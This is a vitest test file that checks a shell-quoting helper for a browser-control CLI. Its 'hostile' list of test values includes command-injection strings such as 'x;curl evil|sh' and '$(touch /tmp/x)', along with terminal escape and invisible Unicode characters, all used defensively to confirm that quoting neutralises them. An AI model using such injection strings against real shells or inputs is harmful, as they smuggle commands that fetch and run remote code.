import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { commandLine, filledAdvice } from "../../src/core/command-line.ts";

const hostile = [
  "x;curl evil|sh",
  "$(touch /tmp/x)",
  "`id`",
  "it's",
  '"',
  "a b",
  "",
  "*",
  "~",
  "line\nbreak",
  "\u001b]52;c;QQ==\u0007",
  "\u202e\u200b\u{e0041}\u009b",
  "100%\\n",
  "#x",
  "!!",
];

/** Words of a line after `browserctl`, as a shell reads them. */
function wordsIn(shell: string, line: string): string[] {
  const script = `browserctl() { for word in "$@"; do printf '%s\\0' "$word"; done; }\n${line}`;
  return execFileSync(shell, ["-c", script]).toString().split("\0").slice(0, -1);
}

test.each(["sh", "bash"])(
  "a value is one word for %s, whatever it contains, and no character of it is hidden",
  (shell) => {
    for (const value of hostile) {
      const line = commandLine`browsers view ${value} --read-only`;
      expect(wordsIn(shell, line), line).toEqual(["browsers", "view", value, "--read-only"]);
      expect(line).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u202e\u{e0041}]/u);
    }
  },
);

test("a value that begins with a dash is no flag", () => {
  expect(commandLine`browsers view ${"-x"} --read-only`).toBe("browserctl browsers view --read-only -- -x");
  expect(commandLine`browsers create --profile ${"--yes"} --headless`).toBe(
    "browserctl browsers create --profile=--yes --headless",
  );
  expect(commandLine`browsers process exec ${"-i"} -- touch ${"a"}`).toBe(
    "browserctl browsers process exec -- -i touch a",
  );
});

test("a value that is undefined is left out with its flag, and a list is its words", () => {
  expect(commandLine`login --context ${undefined} --base-url ${"http://a"}`).toBe(
    "browserctl login --base-url http://a",
  );
  expect(commandLine`login ${["--field", "a b=-"]}`).toBe("browserctl login --field 'a b=-'");
});

test("placeholders of an advice are filled in as words, and stay without a value", () => {
  const advice = "Store it: browserctl credentials update <name> --value <field>=- --id <id>";
  expect(filledAdvice(advice, { name: "$(id)", id: "$& --yes" })).toBe(
    "Store it: browserctl credentials update '$(id)' --value <field>=- --id '$& --yes'",
  );
  expect(filledAdvice(advice, { name: undefined, id: "--yes" })).toBe(
    "Store it: browserctl credentials update <name> --value <field>=- --id=--yes",
  );
  expect(filledAdvice("Nothing to do.", { name: undefined })).toBe("Nothing to do.");
});
